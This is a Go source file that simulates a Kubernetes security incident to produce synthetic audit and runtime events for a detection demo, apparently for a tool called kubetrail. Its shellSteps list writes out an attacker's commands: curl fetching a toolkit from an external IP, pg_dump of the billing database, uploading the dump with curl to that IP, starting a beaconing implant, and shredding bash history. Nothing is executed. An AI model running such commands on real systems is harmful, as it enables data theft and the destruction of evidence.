package simulate

import (
	"time"

	"github.com/kubetrail/kubetrail"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"
)

// The incident the demo is about. A developer's credentials are used from an
// address outside the company: john.doe opens an interactive shell in a billing
// pod, downloads a tool kit from a bare IP, dumps the billing database through
// pgbouncer, compresses and uploads it, leaves an implant beaconing to the same
// address and shreds the shell history. Around it, two packet captures of the
// database port: one in a payments pod through kubectl exec, one on a node over ssh.
const (
	IncidentUser       = "john.doe"
	IncidentSourceIP   = "66.249.64.55"
	IncidentNamespace  = "billing"
	IncidentDeployment = "invoice-api"
	IncidentContainer  = "app"
	// ExternalIP is the attacker's server: it belongs to nothing in the cluster.
	ExternalIP = "185.220.101.47"

	TcpdumpUser       = "bob"
	TcpdumpNamespace  = "payments"
	TcpdumpDeployment = "ledger"
	HostTcpdumpNode   = "node-2"
)

// Query is an example filter for the demo to show.
type Query struct {
	Title  string
	Filter string // Falco condition syntax over the fields of kubetrail.Fields
}

// Queries find the incident's parts.
var Queries = []Query{
	{"Outbound connections from billing to addresses outside the cluster", "k8s.ns.name = billing and net.direction = outbound and net.peer.kind = unknown"},
	{"Every tcpdump execution, in containers and on hosts", "evt.type = execve and proc.name = tcpdump"},
	{"All of john.doe's Kubernetes requests", "ka.user.name = john.doe"},
}

// IncidentInfo describes the incident of one Config.
type IncidentInfo struct {
	Time       time.Time // john.doe's kubectl exec reaches the API server
	End        time.Time // the exec session ends
	User       string
	Groups     []string
	SourceIP   string
	Namespace  string
	Deployment string
	Pod        string
	Container  string
	Node       string
	ExternalIP string
	Commands   []string // what was run in the shell, in order

	TcpdumpTime      time.Time
	TcpdumpUser      string
	TcpdumpNamespace string
	TcpdumpPod       string
	HostTcpdumpTime  time.Time
	HostTcpdumpNode  string

	Queries []Query
}

// Incident describes where and when Run with cfg plays the incident. It is
// placed 90 minutes before the end of the history when the history is long
// enough (100 minutes or more), else two minutes into the run.
func Incident(cfg Config) IncidentInfo {
	info := IncidentInfo{User: IncidentUser, Groups: []string{"devs", "system:authenticated"}, SourceIP: IncidentSourceIP,
		Namespace: IncidentNamespace, Deployment: IncidentDeployment, Container: IncidentContainer, ExternalIP: ExternalIP,
		TcpdumpUser: TcpdumpUser, TcpdumpNamespace: TcpdumpNamespace, HostTcpdumpNode: HostTcpdumpNode, Queries: Queries}
	for _, st := range shellSteps {
		info.Commands = append(info.Commands, (&kubetrail.Process{Name: comm(st.cmd), Argv: st.cmd.argv}).Cmdline())
	}
	cfg, err := cfg.withDefaults()
	if err != nil {
		return info
	}
	s := newSim(cfg, nil)
	p := &s.incident
	info.Time = time.Unix(0, p.t0).UTC()
	info.End = time.Unix(0, p.t0+int64(sessionLength)).UTC()
	info.Pod, info.Node = p.pod.name, p.pod.node.name
	info.TcpdumpTime = time.Unix(0, p.t0+int64(tcpdumpAfter)).UTC()
	info.TcpdumpPod = p.capture.name
	info.HostTcpdumpTime = time.Unix(0, p.t0+int64(hostTcpdumpAfter)).UTC()
	return info
}

type incidentPlan struct {
	t0      int64
	pod     *pod // john.doe's target
	capture *pod // where bob runs tcpdump
}

const (
	sessionLength    = 4*time.Minute + 3217*time.Millisecond
	tcpdumpAfter     = 12 * time.Minute
	hostTcpdumpAfter = 18 * time.Minute
	ttyPts0          = 136<<8 | 0 // /dev/pts/0
	ttyPts1          = 136<<8 | 1
)

// shellStep is one command john.doe types, at its offset from the exec request.
type shellStep struct {
	off time.Duration
	cmd cmd
}

var shellSteps = []shellStep{
	{9 * time.Second, cmd{exe: "/usr/bin/id", argv: []string{"id"}}},
	{17 * time.Second, cmd{exe: "/usr/bin/cat", argv: []string{"cat", "/app/config/application.yaml"}}},
	{48 * time.Second, cmd{exe: "/usr/bin/curl", argv: []string{"curl", "-sSLo", "/tmp/x.tgz", "http://" + ExternalIP + "/x.tgz"}}},
	{63 * time.Second, cmd{exe: "/usr/bin/tar", argv: []string{"tar", "-xzf", "/tmp/x.tgz", "-C", "/tmp"}}},
	{71 * time.Second, cmd{exe: "/usr/bin/chmod", argv: []string{"chmod", "+x", "/tmp/x/pg_dump", "/tmp/x/kworker"}}},
	{92 * time.Second, cmd{exe: "/tmp/x/pg_dump", argv: []string{"/tmp/x/pg_dump", "-h", "pgbouncer.data.svc.cluster.local", "-U", "billing", "-d", "billing", "-f", "/tmp/dump.sql"}}},
	{128 * time.Second, cmd{exe: "/usr/bin/gzip", argv: []string{"gzip", "-9", "/tmp/dump.sql"}}},
	{141 * time.Second, cmd{exe: "/usr/bin/curl", argv: []string{"curl", "-sS", "-T", "/tmp/dump.sql.gz", "https://" + ExternalIP + "/u"}}},
	{160 * time.Second, cmd{exe: "/tmp/x/kworker", argv: []string{"/tmp/x/kworker"}}},
	{205 * time.Second, cmd{exe: "/usr/bin/shred", argv: []string{"shred", "-u", "/root/.bash_history"}}},
}

func (s *sim) planIncident() {
	p := &s.incident
	if s.cfg.History >= 100*time.Minute {
		p.t0 = s.histEnd - int64(90*time.Minute)
	} else {
		p.t0 = s.start + int64(2*time.Minute)
	}
	p.t0 += s.inc.Int64N(int64(time.Second)) // a human's moment, not a round one
	p.pod = s.c.byKey[IncidentNamespace+"/"+IncidentDeployment].pods[0]
	p.capture = s.c.byKey[TcpdumpNamespace+"/"+TcpdumpDeployment].pods[0]
	s.planExecSession()
	s.planPodCapture(p.t0 + int64(tcpdumpAfter))
	s.planHostCapture(p.t0 + int64(hostTcpdumpAfter))
}

func execURI(pd *pod, query string) string { return podURI(pd) + "/exec?" + query }

// planExecSession plays john.doe's session: a look around with kubectl, a refused
// attempt at the secrets, then kubectl exec -it ... -- bash.
func (s *sim) planExecSession() {
	p := &s.incident
	r := s.inc
	pd := p.pod
	t0 := p.t0
	a := &s.api
	view := annotations("allow", rbacReason("RoleBinding", "devs/billing", "ClusterRole", "view", "Group", "devs"))
	john := *a.john
	john.allow = view
	s.after(t0-int64(64*time.Second), func(at int64) {
		s.call(at, &john, "list", "/api/v1/namespaces/billing/pods?limit=500", &auditv1.ObjectReference{Resource: "pods", Namespace: "billing", APIVersion: "v1"}, a.statusOK)
	})
	s.after(t0-int64(41*time.Second), func(at int64) {
		denied := john
		denied.allow = annotations("forbid", "")
		s.call(at, &denied, "list", "/api/v1/namespaces/billing/secrets?limit=500", &auditv1.ObjectReference{Resource: "secrets", Namespace: "billing", APIVersion: "v1"},
			&metav1.Status{Status: metav1.StatusFailure, Code: 403, Reason: metav1.StatusReasonForbidden,
				Message: `secrets is forbidden: User "john.doe" cannot list resource "secrets" in API group "" in the namespace "billing"`,
				Details: &metav1.StatusDetails{Kind: "secrets"}})
	})
	s.after(t0-int64(180*time.Millisecond), func(at int64) {
		s.call(at, &john, "get", podURI(pd), podRef(pd, ""), a.statusOK)
	})
	s.after(t0, func(at int64) {
		exec := john
		exec.allow = annotations("allow", rbacReason("RoleBinding", "devs-exec/billing", "Role", "pod-exec", "Group", "devs"))
		req := s.begin(at, &exec, "get", execURI(pd, "command=bash&container=app&stdin=true&stdout=true&tty=true"), podRef(pd, "exec"), a.statusSwitching, true)
		s.after(at+int64(sessionLength), func(at int64) { s.end(req, at) })
	})

	// In the pod: the shell, started by the runtime as a child of the shim.
	var bash kubetrail.Process
	s.after(t0+int64(83*time.Millisecond)+r.Int64N(int64(15*time.Millisecond)), func(at int64) {
		bash = s.execIn(pd, r, at, &pd.shim, cmd{exe: "/usr/bin/bash", argv: []string{"bash"}}, ttyPts0)
		s.stats.SessionUsers[bash.ExecID] = IncidentUser
	})
	// john.doe leaves the shell; the exec stream closes right after.
	s.after(t0+int64(sessionLength)-int64(12*time.Millisecond), func(at int64) { s.exit(&pd.at, at, &bash, 0) })
	for _, st := range shellSteps {
		s.after(t0+int64(st.off)+r.Int64N(int64(700*time.Millisecond)), func(at int64) {
			proc := s.execIn(pd, r, at, &bash, st.cmd, ttyPts0)
			s.shellEffects(pd, &proc, at)
		})
	}
}

// shellEffects plays what each of john.doe's commands does besides starting. Effects
// more than a few milliseconds later are scheduled, not emitted ahead: a stream's
// events must come in time order. (p outlives the call; the closures keep it.)
func (s *sim) shellEffects(pd *pod, p *kubetrail.Process, at int64) {
	r := s.inc
	ms := int64(time.Millisecond)
	switch p.Argv[0] {
	case "curl":
		if p.Argv[1] == "-sSLo" {
			s.connect(&pd.at, p, at+35*ms, "tcp", ephemeral(r), ExternalIP, 80)
			s.after(at+900*ms, func(at int64) { s.fileOp(&pd.at, p, at, "open", "/tmp/x.tgz") })
		} else {
			s.connect(&pd.at, p, at+30*ms, "tcp", ephemeral(r), ExternalIP, 443)
		}
	case "tar":
		// tar -z runs gzip -d to decompress.
		s.execIn(pd, r, at+3*ms, p, cmd{exe: "/usr/bin/gzip", argv: []string{"gzip", "-d"}}, ttyPts0)
		s.fileOp(&pd.at, p, at+40*ms, "open", "/tmp/x/pg_dump")
		s.fileOp(&pd.at, p, at+45*ms, "open", "/tmp/x/kworker")
	case "chmod":
		s.fileOp(&pd.at, p, at+2*ms, "chmod", "/tmp/x/pg_dump")
		s.fileOp(&pd.at, p, at+2*ms, "chmod", "/tmp/x/kworker")
	case "/tmp/x/pg_dump":
		s.connect(&pd.at, p, at+2*ms, "udp", ephemeral(r), s.c.dnsSvc.ip, 53)
		pgb := s.c.byKey["data/pgbouncer"]
		if srv, ok := pick(r, pgb.ready); ok {
			cport := ephemeral(r)
			s.connect(&pd.at, p, at+5*ms, "tcp", cport, pgb.svc.ip, pgb.svc.port)
			s.accept(&srv.at, nil, at+5*ms+hop(r), pd.ip, cport, int64(pgb.port))
		}
		s.after(at+300*ms, func(at int64) { s.fileOp(&pd.at, p, at, "open", "/tmp/dump.sql") })
	case "gzip":
		s.fileOp(&pd.at, p, at+5*ms, "open", "/tmp/dump.sql.gz")
		// gzip removes its input when it is done; a separate moment in the stream.
		s.after(at+2100*ms, func(at int64) { s.fileOp(&pd.at, p, at, "unlink", "/tmp/dump.sql") })
	case "/tmp/x/kworker":
		// The implant beacons home: every 30 s at first, then every five minutes, as
		// long as the pod lives.
		implant := *p
		n := 0
		var beacon func(at int64)
		beacon = func(at int64) {
			if pd.gone {
				return
			}
			s.connect(&pd.at, &implant, at, "tcp", ephemeral(r), ExternalIP, 443)
			n++
			next := 30 * time.Second
			if n > 3 {
				next = 5 * time.Minute
			}
			s.after(at+int64(next)+r.Int64N(int64(2*time.Second)), beacon)
		}
		s.after(at+2*int64(time.Second), beacon)
	case "shred":
		s.fileOp(&pd.at, p, at+3*ms, "open", "/root/.bash_history")
		s.fileOp(&pd.at, p, at+8*ms, "unlink", "/root/.bash_history")
	}
}

// planPodCapture: bob captures the database traffic from a ledger pod with
// kubectl exec (no terminal), stopping it after a minute and a half.
func (s *sim) planPodCapture(t1 int64) {
	r := s.inc
	pd := s.incident.capture
	a := &s.api
	s.after(t1-int64(150*time.Millisecond), func(at int64) {
		s.call(at, a.bob, "get", podURI(pd), podRef(pd, ""), a.statusOK)
	})
	s.after(t1, func(at int64) {
		req := s.begin(at, a.bob, "get", execURI(pd, "command=tcpdump&command=-i&command=any&command=-w&command=%2Ftmp%2Fcap.pcap&command=port&command=5432&container=app&stderr=true&stdout=true"),
			podRef(pd, "exec"), a.statusSwitching, true)
		s.after(at+int64(97*time.Second), func(at int64) { s.end(req, at) })
	})
	s.after(t1+int64(70*time.Millisecond), func(at int64) {
		if pd.gone {
			return
		}
		p := s.execIn(pd, r, at, &pd.shim, cmd{exe: "/usr/bin/tcpdump", argv: []string{"tcpdump", "-i", "any", "-w", "/tmp/cap.pcap", "port", "5432"}}, 0)
		s.stats.SessionUsers[p.ExecID] = TcpdumpUser
		// bob stops the capture with Ctrl-C after a minute and a half.
		s.after(t1+int64(97*time.Second)-int64(9*time.Millisecond), func(at int64) { s.exit(&pd.at, at, &p, 130) })
		s.after(at+int64(400*time.Millisecond), func(at int64) { s.fileOp(&pd.at, &p, at, "open", "/tmp/cap.pcap") })
	})
}

// planHostCapture: an operator logs in to node-2 over ssh from the bastion and
// runs tcpdump with sudo on the host.
func (s *sim) planHostCapture(t2 int64) {
	r := s.inc
	var n *node
	for _, nd := range s.c.nodes {
		if nd.name == HostTcpdumpNode {
			n = nd
		}
	}
	var bash kubetrail.Process
	s.after(t2, func(at int64) {
		s.accept(&n.host, &n.sshd, at, bastionIP, ephemeral(r), 22)
	})
	s.after(t2+int64(1200*time.Millisecond), func(at int64) {
		bash = newProc(n, r, at, &n.sshd, cmd{exe: "/usr/bin/bash", argv: []string{"-bash"}, name: "bash"}, 1000, "ops", "/home/ops", ttyPts1)
		bash.LoginUID = 1000
		s.exec(&n.host, at, &bash)
	})
	argv := []string{"tcpdump", "-i", "any", "-w", "/tmp/node2.pcap", "port", "5432"}
	s.after(t2+int64(21*time.Second), func(at int64) {
		sudo := newProc(n, r, at, &bash, cmd{exe: "/usr/bin/sudo", argv: append([]string{"sudo"}, argv...)}, 0, "root", "/home/ops", ttyPts1)
		sudo.LoginUID = 1000
		s.exec(&n.host, at, &sudo)
		at += int64(45 * time.Millisecond)
		td := newProc(n, r, at, &sudo, cmd{exe: "/usr/bin/tcpdump", argv: argv}, 0, "root", "/home/ops", ttyPts1)
		td.LoginUID = 1000
		s.exec(&n.host, at, &td)
		s.after(at+int64(250*time.Millisecond), func(at int64) { s.fileOp(&n.host, &td, at, "open", "/tmp/node2.pcap") })
	})
}
